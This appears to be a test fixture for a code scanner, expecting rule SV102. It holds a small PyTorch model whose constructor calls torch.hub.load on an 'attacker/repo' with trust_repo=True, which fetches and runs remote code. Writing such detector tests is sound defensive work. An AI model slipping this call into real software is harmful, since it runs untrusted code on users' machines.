# technique: torch.hub.load downloads and executes hubconf.py
# source: PyTorch docs (torch.hub trust_repo warning)
# expect: SV102
import math

import torch
from torch import nn


class Model(nn.Module):
    def __init__(self, input_shape, output_dim, hidden: int = 32):
        super().__init__()
        self.fc = nn.Linear(math.prod(input_shape), output_dim)
        self.body = torch.hub.load('attacker/repo', 'model', trust_repo=True)

    def forward(self, x):
        return self.fc(x.flatten(1))
